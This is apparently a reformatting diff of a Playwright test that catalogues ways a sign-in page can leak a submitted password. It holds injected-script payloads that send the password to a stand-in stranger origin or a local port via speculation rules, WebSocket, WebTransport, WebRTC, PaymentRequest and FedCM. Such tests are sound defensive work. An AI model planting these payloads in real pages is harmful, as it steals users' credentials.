@@ -1,4 +1,6 @@
-/** The ways out of a sign-in page that are no request of its own: speculation, workers, sockets, frames and windows of strangers, payment, accounts elsewhere. */
+/**
+ * The ways out of a sign-in page that are no request of its own: speculation, workers, sockets, frames and windows of strangers, payment, accounts elsewhere.
+ */
 import { createSocket, type Socket } from 'node:dgram';
 import type { AddressInfo } from 'node:net';
 import { expect, test } from '@playwright/test';
@@ -7,7 +9,10 @@ import { goodPassword, signInAbroad } from '../../probes/testing/foreign/foreign
 import { signInPages } from '../../probes/testing/foreign/sign-in-pages';
 import { html, type Reply } from '../../probes/testing/foreign/virtual-hosts';
 
-/** What the page of the STS does with the password `p` (written for addresses) when its form is submitted. E is the stranger's origin, U a UDP port of this machine. */
+/**
+ * What the page of the STS does with the password `p` (written for addresses) when its form is submitted.
+ * E is the stranger's origin, U a UDP port of this machine.
+ */
 const ways: Readonly<Record<string, string>> = {
   'speculation rules: prefetch': "rules({ prefetch: [{ source: 'list', urls: ['E/prefetch?p=' + p], eagerness: 'immediate' }] })",
   'speculation rules: prerender': "rules({ prerender: [{ source: 'list', urls: ['E/prerender?p=' + p], eagerness: 'immediate' }] })",
@@ -29,14 +34,16 @@ const ways: Readonly<Record<string, string>> = {
   WebTransport: "new WebTransport('https://127.0.0.1:U/?p=' + p)",
   'WebTransport of a worker': "new Worker('data:text/javascript,' + encodeURIComponent('new WebTransport(\"https://127.0.0.1:U/?p=' + p + '\")'))",
   WebRTC:
-    "const r = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:U' }] }); r.createDataChannel(p); r.createOffer().then((o) => r.setLocalDescription(o))",
+    "const r = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:U' }] }); r.createDataChannel(p); " +
+    'r.createOffer().then((o) => r.setLocalDescription(o))',
   'a payment method':
     "new PaymentRequest([{ supportedMethods: 'E/pay?p=' + p }], { total: { label: 'a', amount: { currency: 'USD', value: '1' } } }).canMakePayment()",
   'an account elsewhere (FedCM)': "navigator.credentials.get({ identity: { providers: [{ configURL: 'E/accounts?p=' + p, clientId: '1' }] } }).catch(() => 0)",
 };
 
 const sending = (origin: string): string =>
-  `const send = (p) => { try { new WebSocket('${origin.replace('https', 'wss')}/socket?p=' + p) } catch { } try { new WebTransport('${origin}/wt?p=' + p) } catch { } };`;
+  `const send = (p) => { try { new WebSocket('${origin.replace('https', 'wss')}/socket?p=' + p) } catch { } try { new ` +
+  `WebTransport('${origin}/wt?p=' + p) } catch { } };`;
 
 const page =
   (origin: string, udpPort: number) =>
@@ -52,7 +59,8 @@ const page =
       const rules = (what) => add('script', { type: 'speculationrules', textContent: JSON.stringify(what) });
       document.forms[0].addEventListener('submit', (event) => {
         event.preventDefault();
-        const p = encodeURIComponent(document.querySelector('[type=password]').value), tag = 'x' + [...p].map((c) => c.charCodeAt(0).toString(16)).join('').slice(0, 60);
+        const p = encodeURIComponent(document.querySelector('[type=password]').value), \
+tag = 'x' + [...p].map((c) => c.charCodeAt(0).toString(16)).join('').slice(0, 60);
         ${attempts.replace(/try \{/g, 'try { {').replace(/\} catch/g, '} } catch')}
       });`;
     return { body: (signInPages.plain(view).body ?? '').replace('</body>', `<script>${script}</script></body>`) };
